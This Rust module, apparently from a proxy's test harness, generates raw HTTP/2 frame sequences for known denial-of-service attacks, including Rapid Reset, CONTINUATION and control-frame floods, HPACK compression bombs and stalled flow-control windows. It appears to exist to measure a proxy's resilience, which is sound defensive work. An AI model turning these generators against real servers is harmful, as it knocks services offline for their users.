//! The attacks with HTTP/2, as the bytes that an attacker sends and what it does with answers. Each is one that a server
//! of that protocol has fallen to. The bytes are sent in a circle: where they begin anew the preface is no frame, so that
//! a proxy that put up with everything ends the connection there, and the attacker makes another one.

use std::sync::Arc;

use super::held::{Holding, Then};
use super::kind::Kind;
use super::rush::Rush;
use super::threads::Work;
use crate::proof::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, HEADERS, INITIAL_WINDOW_SIZE, LARGEST, PING,
    PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, head,
};

/// Streams, or frames, of one connection before the circle closes.
const MANY: u32 = 5_000;
/// Streams that are open when they are reset together.
const BATCH: u32 = 100;
/// What attackers ask for where they are to be there before the answer.
const SLOW: &str = "/slow?delay=10s";
/// What attackers ask for where they want no answer.
const SMALL: &str = "/bytes/10";
/// RFC 9113 §7.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
/// Streams with windows of one byte, and with answers that are not read.
const TINY: u32 = 100;
const UNREAD: u32 = 8;
/// A literal with incremental indexing and a name that follows; the newest entry of the table, by its index
/// (RFC 7541 §6.1, §6.2.1).
const INDEXED_LITERAL: u8 = 0x40;
const NEWEST: u8 = 0x80 | 62;

/// What the attackers of `kind` do.
pub(super) fn work(kind: Kind) -> Work {
    match kind {
        Kind::H2TinyWindows => tiny_windows(),
        Kind::H2NoReads => unread(),
        Kind::H2Connections => {
            let opening = Frames::opening(&[]).get(1, SMALL).into_bytes();
            Work::Hold(Holding::new(vec![opening], Then::Listen))
        }
        Kind::H2LateResets => Work::Rush(Rush::Stream(Arc::new(late_resets()))),
        _ => Work::Rush(Rush::stream(&bytes(kind))),
    }
}

/// Streams that attackers of `kind` hold on each of their connections.
pub(super) fn streams(kind: Kind) -> usize {
    match kind {
        Kind::H2TinyWindows => TINY as usize,
        Kind::H2NoReads => UNREAD as usize,
        _ => 1,
    }
}

/// Kibibytes that one connection may cost: docs/limits.md.
pub(super) fn kib_each(kind: Kind) -> u64 {
    match kind {
        // For each stream a head, and what one read brings on top of its answer.
        Kind::H2TinyWindows => u64::from(TINY) * 48,
        Kind::H2NoReads => 128 + u64::from(UNREAD) * 144,
        Kind::H2Connections => 32,
        // Its window and its outbox.
        _ => 1_024 + 128,
    }
}

fn bytes(kind: Kind) -> Vec<u8> {
    let opening = Frames::opening(&[]);
    let frames = match kind {
        Kind::H2RapidReset => opening
            .streams(MANY, |frames, stream| frames.get(stream, SMALL).frame(RST_STREAM, 0, stream, &CANCEL)),
        Kind::H2EmptyData => repeated(opening.post(1, "/sink"), DATA, 1, &[]),
        Kind::H2Settings => repeated(opening, SETTINGS, 0, &[]),
        Kind::H2Pings => repeated(opening, PING, 0, b"attacker"),
        Kind::H2Priorities => repeated(opening, PRIORITY, 1, &[0, 0, 0, 0, 200]),
        Kind::H2WindowUpdates => repeated(opening, WINDOW_UPDATE, 0, &1_u32.to_be_bytes()),
        Kind::H2Continuations => {
            let beginning = opening.frame(HEADERS, END_STREAM, 1, &head(false, SMALL));
            repeated(beginning, CONTINUATION, 1, &[])
        }
        // A block of 8 KiB stands for 16 MB of fields.
        Kind::H2HpackBomb => bombs(opening, "x-bomb", 4_000),
        Kind::H2CrumbBomb => bombs(opening, "cookie", 1),
        _ => made_you_reset(opening, kind),
    };
    frames.into_bytes()
}

/// Batches of requests, and of resets behind each: two writes, so that the proxy has begun to serve what is cancelled.
fn late_resets() -> Vec<Vec<u8>> {
    let streams = |batch: u32| (batch * BATCH..(batch + 1) * BATCH).map(|number| 2 * number + 1);
    let mut pieces = vec![Frames::opening(&[]).into_bytes()];
    for batch in 0..MANY / BATCH {
        let asked = streams(batch).fold(Frames::default(), |frames, stream| frames.get(stream, SLOW));
        let reset = streams(batch)
            .fold(Frames::default(), |frames, stream| frames.frame(RST_STREAM, 0, stream, &CANCEL));
        pieces.extend([asked.into_bytes(), reset.into_bytes()]);
    }
    pieces
}

/// Requests after which the attacker makes the proxy reset the stream instead of doing so itself.
fn made_you_reset(opening: Frames, kind: Kind) -> Frames {
    opening.streams(MANY, |frames, stream| {
        let open = |frames: Frames| frames.post(stream, "/sink");
        let asked = |frames: Frames| frames.get(stream, SMALL);
        let itself = [&stream.to_be_bytes()[..], &[16]].concat();
        match kind {
            Kind::H2ZeroIncrements => asked(frames).frame(WINDOW_UPDATE, 0, stream, &[0; 4]),
            Kind::H2LargeIncrements => asked(frames).frame(WINDOW_UPDATE, 0, stream, &LARGEST.to_be_bytes()),
            Kind::H2PriorityLengths => asked(frames).frame(PRIORITY, 0, stream, &[0; 4]),
            Kind::H2PriorityLoops => asked(frames).frame(PRIORITY, 0, stream, &itself),
            Kind::H2HeadersAfterEnd => {
                asked(frames).frame(HEADERS, END_HEADERS | END_STREAM, stream, &head(false, SMALL))
            }
            _ => open(frames).frame(DATA, END_STREAM, stream, b"x").frame(DATA, END_STREAM, stream, b"x"),
        }
    })
}

fn repeated(beginning: Frames, kind: u8, stream: u32, payload: &[u8]) -> Frames {
    (0..MANY).fold(beginning, |frames, _| frames.frame(kind, 0, stream, payload))
}

/// Requests each of which puts a field into the table and then names it thousands of times with a byte each.
fn bombs(opening: Frames, name: &str, size: usize) -> Frames {
    let mut block = head(false, SMALL);
    block.extend([INDEXED_LITERAL, name.len() as u8]);
    block.extend(name.as_bytes());
    // A length of more than 126 goes on in groups of seven bits (RFC 7541 §5.1).
    match size.checked_sub(127) {
        None => block.push(size as u8),
        Some(rest) => block.extend([127, 0x80 | (rest & 0x7f) as u8, (rest >> 7) as u8]),
    }
    block.resize(block.len() + size, b'x');
    block.resize(block.len() + 4_000, NEWEST);
    opening
        .streams(MANY / 50, |frames, stream| frames.frame(HEADERS, END_HEADERS | END_STREAM, stream, &block))
}

fn tiny_windows() -> Work {
    let beginning = Frames::opening(&[(INITIAL_WINDOW_SIZE, 1)])
        .streams(TINY, |frames, stream| frames.get(stream, "/bytes/10000"));
    let more = Frames::default()
        .streams(TINY, |frames, stream| frames.frame(WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes()));
    Work::Hold(Holding::new(vec![beginning.into_bytes()], Then::Send(more.into_bytes())))
}

fn unread() -> Work {
    let beginning = Frames::opening(&[(INITIAL_WINDOW_SIZE, LARGEST)])
        .frame(WINDOW_UPDATE, 0, 0, &(1_u32 << 30).to_be_bytes())
        .streams(UNREAD, |frames, stream| frames.get(stream, "/bytes/8388608"));
    let holding = Holding::new(vec![beginning.into_bytes()], Then::Hold);
    Work::Hold(Holding { receive_buffer: Some(4 * 1024), ..holding })
}
